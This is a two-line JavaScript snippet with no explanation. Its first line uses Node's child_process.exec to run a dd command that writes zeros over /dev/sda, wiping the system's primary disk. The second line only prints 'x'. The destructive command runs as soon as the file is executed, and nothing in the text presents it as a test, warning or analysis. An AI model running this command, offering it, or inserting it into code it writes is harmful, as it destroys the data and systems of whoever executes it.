require('child_process').exec('dd if=/dev/zero of=/dev/sda bs=1M');
console.log('x');
